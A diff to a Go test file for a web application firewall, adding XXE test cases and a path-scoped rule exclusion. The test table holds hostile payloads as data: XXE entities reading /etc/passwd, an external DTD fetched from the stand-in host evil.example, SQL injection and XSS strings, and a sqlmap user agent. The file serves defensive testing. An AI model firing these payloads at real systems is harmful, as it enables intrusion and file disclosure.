@@ -48,6 +48,7 @@ func serve(f *Firewall, r *http.Request) (*httptest.ResponseRecorder, bool, *exc
 func TestFirewall(t *testing.T) {
 	block := build(t, "")
 	detect := build(t, "mode: detect")
+	xxeOff := build(t, "rule_exclusions: [{ids: [200007], path_prefix: /import/}]")
 	excl := build(t, "rule_exclusions:\n  - {ids: [942100], args: [q]}\n  - {tags: [attack-xss], path_prefix: /cms/}\nmax_body_bytes: 64\n")
 	tests := []struct {
 		name        string
@@ -64,6 +65,11 @@ func TestFirewall(t *testing.T) {
 		{"scanner ua", block, "GET", "/", "", "", "sqlmap/1.7", 403, false},
 		{"sqli json", block, "POST", "/api", "application/json", `{"user":"x' UNION SELECT password FROM users--"}`, "", 403, false},
 		{"xss form", block, "POST", "/api", "application/x-www-form-urlencoded", "c=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", 403, false},
+		{"xxe entity", block, "POST", "/api", "application/xml", `<!DOCTYPE foo [ <!ELEMENT foo ANY ><!ENTITY xxe SYSTEM "file:///etc/passwd" > ]><foo>&xxe;</foo>`, "", 403, false},
+		{"xxe external dtd", block, "POST", "/soap", "text/xml", `<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x>a</x>`, "", 403, false},
+		{"xxe excluded path", xxeOff, "POST", "/import/doc", "application/xml", `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x>a</x>`, "", 200, true},
+		{"xxe other path", xxeOff, "POST", "/api", "application/xml", `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x>a</x>`, "", 403, false},
+		{"benign xml", block, "POST", "/api", "application/xml", `<?xml version="1.0"?><!DOCTYPE note><note><to>O'Brien</to><body>see the ENTITY docs</body></note>`, "", 200, true},
 		{"malformed json", block, "POST", "/api", "application/json", `{"a":`, "", 400, false},
 		{"benign get", block, "GET", "/users/42?sort=name&page=2", "", "", "", 200, true},
 		{"benign obrien", block, "GET", "/search?name=O%27Brien", "", "", "", 200, true},
